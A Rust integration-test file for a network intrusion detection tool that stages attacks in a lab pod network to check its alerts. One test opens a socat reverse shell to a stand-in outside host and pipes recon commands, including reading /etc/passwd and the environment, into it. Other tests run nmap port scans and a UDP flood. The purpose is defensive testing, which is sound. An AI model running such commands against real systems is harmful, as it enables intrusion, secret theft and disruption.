//! `spanwatch agent` and `sensor` on real interfaces: real pods, real tools, real signals.

use std::process::Stdio;
use std::time::Duration;

use serde_json::Value;

use crate::command::{repository, spanwatch};
use crate::lab::Lab;

/// How long an alert may take, on a machine that is busy with other tests.
pub(crate) const SOON: Duration = Duration::from_secs(40);

pub(crate) fn is(signature: &'static str) -> impl Fn(&Value) -> bool {
    move |alert| alert["signature"] == signature
}

/// The numbers of `any: received 12 packets = processed 3 + 9 of no pod`: what was received, and what became of it.
pub(crate) fn account(said: &str, interface: &str) -> (u64, Vec<u64>) {
    let line = said
        .lines()
        .find(|line| line.starts_with(&format!("{interface}: received")));
    let line = line.unwrap_or_else(|| panic!("{said}")).replace(',', "");
    let (received, became) = line.split_once('=').unwrap();
    let numbers = |text: &str| {
        let words = text.split_whitespace();
        words
            .filter_map(|word| word.parse().ok())
            .collect::<Vec<u64>>()
    };
    (numbers(received)[0], numbers(became))
}

#[test]
fn a_scan_by_a_pod_is_told_with_its_name_and_every_packet_accounted_for() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let cni = lab.cni();
    let mut agent = lab.spanwatch(&["agent", "--inventory", cni.to_str().unwrap()]);
    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
    let alert = agent.alert(SOON, is("port-scan"));
    assert_eq!(alert["status"], "open");
    assert_eq!(alert["actor"]["namespace"], "shop");
    assert_eq!(alert["actor"]["pod"], worker.name);
    assert_eq!(alert["targets"][0]["pod"], web.name, "{alert}");

    let (code, alerts, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    let told = alerts.iter().rfind(|alert| is("port-scan")(alert));
    assert_eq!(told.unwrap()["status"], "closed");
    assert!(alerts.iter().all(is("port-scan")), "{alerts:#?}");
    let (received, became) = account(&said, "any");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
    assert!(
        became[0] >= 2400,
        "both ends' interfaces show SYN and RST: {said}"
    );
}

#[test]
fn a_sidecar_sees_its_pod_and_its_loopback() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let cni = lab.cni();
    let cni = cni.to_str().unwrap();
    let mut sidecar = worker.spanwatch(&["agent", "-i", "lo", "-i", "eth0", "--inventory", cni]);
    worker.exec(&["nmap", "-n", "-Pn", "-sT", "-T4", "-p1-300", &web.ip]);
    worker.exec(&["nmap", "-n", "-Pn", "-sT", "-p80-82", "127.0.0.1"]);
    let alert = sidecar.alert(SOON, is("port-scan"));
    assert_eq!(alert["actor"]["pod"], worker.name);
    let (code, _, said) = sidecar.stop();
    assert_eq!(code, Some(0), "{said}");
    for (interface, at_least) in [("lo", 6), ("eth0", 600)] {
        let (received, became) = account(&said, interface);
        // Every frame once, also on the loopback, where the kernel shows each going out and coming in.
        assert_eq!(became, [received], "{said}");
        assert!(received >= at_least, "{said}");
    }
}

#[test]
fn an_interface_may_come_later_go_and_come_back() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let mut sensor = lab.spanwatch(&["sensor", "-i", "up0", "-i", "lo"]);
    sensor.hear("waiting for it to appear");
    let host = lab.outside("203.0.113.9");
    sensor.hear("up0 is there now");
    lab.on_node("ip link del up0");
    sensor.hear("waiting for it to come back");
    sensor.said.clear();
    lab.connect(&host);
    sensor.hear("up0 is there now");
    host.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", "10.99.0.1"]);
    sensor.alert(SOON, is("port-scan"));
    let (code, _, said) = sensor.stop();
    assert_eq!(code, Some(0), "{said}");
    let (received, became) = account(&said, "up0");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
}

#[test]
fn a_reverse_shell_is_told_while_it_is_open() {
    let Some(lab) = Lab::new(&["socat"]) else {
        return;
    };
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let attacker = lab.outside("203.0.113.9");
    let cni = lab.cni();
    let mut agent = lab.spanwatch(&["agent", "--inventory", cni.to_str().unwrap()]);
    // Somebody types.
    let types = "for line in id 'uname -a' 'cat /etc/passwd' 'ls -la /' env 'cat /proc/mounts' 'ls /var/run'; do \
                 sleep 1; echo \"$line\"; done; sleep 60";
    let listens = format!("({types}) | socat - TCP-LISTEN:4444,reuseaddr");
    let _attacker = attacker.start(&["sh", "-c", &listens]);
    let _shell = worker.start(&[
        "sh",
        "-c",
        "sleep 1; exec socat TCP:203.0.113.9:4444,retry=40,interval=0.5 EXEC:/bin/sh",
    ]);
    let alert = agent.alert(SOON, is("reverse-shell"));
    assert_eq!(alert["status"], "open");
    assert_eq!(alert["actor"]["pod"], worker.name);
    assert_eq!(alert["targets"][0]["ip"], attacker.ip, "{alert}");
    let (code, _, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    let (received, became) = account(&said, "any");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
}

#[test]
fn a_pod_whose_name_comes_late_is_named_afterwards() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let cni = lab.cni();
    let flows = lab.path("flows.jsonl");
    let mut agent = lab.spanwatch(&[
        "agent",
        "--inventory",
        cni.to_str().unwrap(),
        "--flows",
        &flows,
    ]);
    let worker = lab.nameless_pod("worker-6b8f5d7c9b-4qk7z");
    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-400", &web.ip]);
    let nameless = agent.alert(SOON, is("port-scan"));
    assert_eq!(nameless["actor"]["pod"], Value::Null);
    assert_eq!(nameless["actor"]["ip"], worker.ip);
    std::thread::sleep(Duration::from_secs(3));
    lab.name(&worker);
    let named = agent.alert(SOON, |alert| alert["actor"]["pod"] == worker.name);
    assert_eq!(named["id"], nameless["id"]);
    assert_eq!(named["status"], "updated");

    let (code, alerts, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    let ids: std::collections::BTreeSet<_> =
        alerts.iter().map(|alert| alert["id"].to_string()).collect();
    assert_eq!(ids.len(), 1, "{alerts:#?}");
}

#[test]
fn pods_that_come_and_go_with_reused_addresses_are_told_apart() {
    const PODS: usize = 60;
    const ALIVE: usize = 6;
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let cni = lab.cni();
    let flows = lab.path("flows.jsonl");
    let mut agent = lab.spanwatch(&[
        "agent",
        "--inventory",
        cni.to_str().unwrap(),
        "--flows",
        &flows,
    ]);
    agent.hear("started");
    let mut alive = std::collections::VecDeque::new();
    let mut addresses = std::collections::BTreeSet::new();
    // Each pod calls at a port of its own, which tells whose flow it is whatever the address.
    for number in 0..PODS {
        let pod = lab.pod(&format!("job-{number}"));
        let call = format!("exec 3<>/dev/tcp/{}/{}", web.ip, 9000 + number);
        pod.command(&["bash", "-c", &call])
            .stderr(Stdio::null())
            .status()
            .unwrap();
        addresses.insert(pod.ip.clone());
        alive.push_back(pod);
        if alive.len() > ALIVE {
            lab.remove(&alive.pop_front().unwrap());
        }
    }
    assert!(addresses.len() < PODS, "no address was given twice");
    let (code, _, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    let log = std::fs::read_to_string(&flows).unwrap();
    let mut told = 0;
    for line in log.lines() {
        let flow: Value = serde_json::from_str(line).unwrap();
        let port = flow["dst"]["port"].as_u64().unwrap_or_default() as usize;
        if flow["proto"] == "tcp" && (9000..9000 + PODS).contains(&port) {
            assert_eq!(flow["src"]["pod"], format!("job-{}", port - 9000), "{flow}");
            assert_eq!(flow["dst"]["pod"], web.name, "{flow}");
            told += 1;
        }
    }
    assert_eq!(told, PODS);
    let (received, became) = account(&said, "any");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
}

/// What a path answers over HTTP, from inside the node.
pub(crate) fn get(lab: &Lab, path: &str) -> String {
    let ask = format!(
        "exec 3<>/dev/tcp/127.0.0.1/9474; printf 'GET {path} HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n' >&3; cat <&3"
    );
    let output = lab.command(&["bash", "-c", &ask]).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// A metric's value.
pub(crate) fn metric(page: &str, name: &str) -> f64 {
    let line = page
        .lines()
        .find(|line| line.starts_with(&format!("{name} ")));
    let line = line.unwrap_or_else(|| panic!("no {name}: {page}"));
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

#[test]
fn it_tells_how_it_stands_and_keeps_no_right_it_does_not_need() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let cni = lab.cni();
    let args = [
        "agent",
        "--inventory",
        cni.to_str().unwrap(),
        "--listen",
        "127.0.0.1:9474",
    ];
    let mut agent = lab.spanwatch(&args);
    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
    agent.alert(SOON, is("port-scan"));
    std::thread::sleep(Duration::from_secs(2));

    let page = get(&lab, "/metrics");
    assert!(page.starts_with("HTTP/1.1 200"), "{page}");
    assert!(metric(&page, "spanwatch_packets_total") >= 2400.0);
    assert!(metric(&page, "spanwatch_identity_claims") >= 2.0);
    assert!(
        metric(&page, "spanwatch_alerts_total{severity=\"high\"}") >= 1.0,
        "{page}"
    );
    assert!(metric(&page, "spanwatch_lag_seconds") < 30.0);
    let documented = std::fs::read_to_string(repository("docs/live.md")).unwrap();
    for line in page.lines().filter(|line| line.starts_with("# TYPE ")) {
        let name = line.split(' ').nth(2).unwrap();
        assert!(
            documented.contains(&format!("`{name}`")),
            "docs/live.md lacks {name}"
        );
    }
    assert!(get(&lab, "/healthz").starts_with("HTTP/1.1 200"));
    let ready = get(&lab, "/readyz");
    assert!(
        ready.starts_with("HTTP/1.1 200") && ready.contains("any: captured"),
        "{ready}"
    );

    // Of all threads the capturing one alone keeps a capability, NET_RAW, and none can get another.
    for (thread, status) in agent.threads() {
        let field = |name: &str| {
            let line = status.lines().find(|line| line.starts_with(name)).unwrap();
            line.split_whitespace().nth(1).unwrap().to_owned()
        };
        let raw = if thread == "capture" { 1 << 13 } else { 0 };
        for (set, kept) in [
            ("CapEff:", raw),
            ("CapPrm:", raw),
            ("CapInh:", 0),
            ("CapAmb:", 0),
        ] {
            let bits = u64::from_str_radix(&field(set), 16).unwrap();
            assert_eq!(bits, kept, "{thread} {set} {bits:x}");
        }
        assert_eq!(field("NoNewPrivs:"), "1", "{thread}");
    }
    assert_eq!(agent.stop().0, Some(0));
}

#[test]
fn it_runs_as_another_user_and_still_captures_what_comes_later() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    // A directory of its own, which root's umask doesn't make others'.
    let (folder, cni) = (lab.path("results"), lab.cni());
    std::fs::create_dir(&folder).unwrap();
    let open = "chmod -R a+rX $(dirname $0) && chown 65534:65534 $0";
    let opened = std::process::Command::new("sh")
        .args(["-c", open, &folder])
        .status();
    assert!(opened.unwrap().success());
    let (output, state) = (format!("{folder}/alerts"), format!("{folder}/state"));
    let args = [
        "sensor",
        "-i",
        "up0",
        "-i",
        "cni0",
        "--user",
        "65534:65534",
        "-o",
        &output,
        "--state",
        &state,
    ];
    let inventory = ["--inventory", cni.to_str().unwrap()];
    let mut agent = lab.spanwatch(&[&args[..], &inventory].concat());
    for (thread, status) in agent.threads() {
        for line in status.lines() {
            let mut fields = line.split_whitespace();
            let first = fields.next().unwrap_or_default();
            match first {
                "Uid:" | "Gid:" => assert!(fields.all(|id| id == "65534"), "{thread}: {line}"),
                "Groups:" => assert_eq!(fields.next(), None, "{thread}"),
                "Seccomp:" => assert_eq!(fields.next(), Some("2"), "{thread}"),
                "CapEff:" => {
                    let kept = if thread == "capture" { 1 << 13 } else { 0 };
                    let bits = u64::from_str_radix(fields.next().unwrap(), 16).unwrap();
                    assert_eq!(bits, kept, "{thread}");
                }
                _ => {}
            }
        }
    }
    // At the node itself: a bridge shows its own traffic without being promiscuous.
    let all = ["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", "10.88.7.1"];
    worker.exec(&all);
    let _outside = lab.outside("203.0.113.9");
    agent.hear("up0 is there now");
    let (code, _, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    assert!(!said.contains("not confined"), "{said}");
    let told = std::fs::read_to_string(&output).unwrap();
    assert!(
        told.contains("port-scan") && told.contains(&worker.name),
        "{told} {said}"
    );
}

#[test]
fn what_is_learned_is_kept_and_signatures_and_files_are_renewed() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let cni = lab.cni();
    let (baseline, output, own) = (
        lab.path("baseline"),
        lab.path("alerts.jsonl"),
        lab.path("own"),
    );
    std::fs::create_dir(&own).unwrap();
    let one = std::path::Path::new(&own).join("icmp-tunnel.toml");
    std::fs::copy(repository("signatures/icmp-tunnel.toml"), one).unwrap();
    let args = [
        "agent",
        "--inventory",
        cni.to_str().unwrap(),
        "--baseline",
        &baseline,
        "--learn",
        "--output",
        &output,
        "--signatures",
        &own,
    ];
    let _server = web.start(&["socat", "TCP-LISTEN:8080,fork,reuseaddr", "PIPE"]);
    for _ in 0..2 {
        // The second run goes on where the first one ended.
        let mut agent = lab.spanwatch(&args);
        let calls = format!(
            "sleep 1; for i in 1 2 3; do exec 3<>/dev/tcp/{}/8080; echo x >&3; read -u 3 y; done",
            web.ip
        );
        worker.exec(&["bash", "-c", &calls]);

        let broken = std::path::Path::new(&own).join("port-scan.toml");
        std::fs::write(&broken, "thresholds = 7").unwrap();
        agent.signal("HUP");
        agent.hear("all stays as it was");
        std::fs::remove_file(&broken).unwrap();
        std::fs::rename(&output, format!("{output}.1")).unwrap();
        agent.signal("HUP");
        agent.hear("signatures read again, 0 changed");
        worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
        let (code, _, said) = agent.stop();
        assert_eq!(code, Some(0), "{said}");
        let told = std::fs::read_to_string(&output).unwrap();
        assert!(told.contains("port-scan"), "{told} {said}");
    }
    let shown = spanwatch(&[
        "baseline",
        "show",
        "--baseline",
        &baseline,
        "shop/Deployment/worker",
    ]);
    assert_eq!(shown.code, Some(0), "{}", shown.err);
    assert!(
        shown.out.contains("shop/Deployment/worker"),
        "{}",
        shown.out
    );
}

#[test]
fn a_configuration_is_renewed_and_a_bad_one_changes_nothing() {
    let Some(lab) = Lab::new(&["nmap"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let auditor = lab.pod("auditor-5f6d8c7b9d-8xq2p");
    let cni = lab.cni();
    let (config, output, allowed) = (
        lab.path("agent.toml"),
        lab.path("alerts.jsonl"),
        lab.path("allowed.toml"),
    );
    let good = format!("inventory = [{cni:?}]\noutput = {output:?}\n");
    std::fs::write(&config, &good).unwrap();
    let mut agent = lab.spanwatch(&["agent", "--config", &config]);

    let bad = good.replace("output", "outptu") + "exceptions = \"/none.toml\"\n";
    std::fs::write(&config, bad).unwrap();
    agent.signal("HUP");
    agent.hear("all stays as it was: 2 problems");
    agent.hear("agent.toml:2: unknown key `outptu`; did you mean `output`?");
    agent.hear("agent.toml:3: `exceptions`: cannot read /none.toml");
    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
    let text = || std::fs::read_to_string(&output).unwrap_or_default();
    let until = std::time::Instant::now() + SOON;
    while !text().contains(&worker.name) {
        assert!(std::time::Instant::now() < until, "{:?}", agent.said);
        std::thread::sleep(Duration::from_millis(200));
    }

    let exception = "[[exception]]\nreason = \"audit\"\nowner = \"us\"\nexpires = \"never\"\nworkloads = [\"shop/*/auditor\"]\n";
    std::fs::write(&allowed, exception).unwrap();
    std::fs::write(
        &config,
        good + &format!("ring = 8\nexceptions = {allowed:?}\n"),
    )
    .unwrap();
    agent.signal("HUP");
    agent.hear("taken at the next start only: ring");
    agent.hear("signatures read again, 0 changed");
    auditor.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
    let (code, _, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    assert!(!text().contains(&auditor.name), "{}", text());
    assert!(
        said.contains("port-scan: audit"),
        "counted as allowed: {said}"
    );
}

#[test]
fn more_than_it_can_take_is_counted_to_the_last_packet() {
    let Some(lab) = Lab::new(&["socat"]) else {
        return;
    };
    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
    let cni = lab.cni();
    let args = [
        "agent",
        "--inventory",
        cni.to_str().unwrap(),
        "--buffer",
        "1",
        "--ring",
        "2",
    ];
    let agent = lab.spanwatch(&args);
    // As many small datagrams as a core can send.
    let to = format!("UDP-SENDTO:{}:9", web.ip);
    let flood = worker.start(&["socat", "-u", "-b", "64", "OPEN:/dev/zero", &to]);
    std::thread::sleep(Duration::from_secs(4));
    let asked = std::time::Instant::now();
    let (code, _, said) = agent.stop();
    drop(flood);
    assert_eq!(code, Some(0), "{said}");
    assert!(
        asked.elapsed() < SOON,
        "it ends when asked to, however much there is"
    );
    let (received, became) = account(&said, "any");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
    assert!(received > 50_000, "{said}");
}
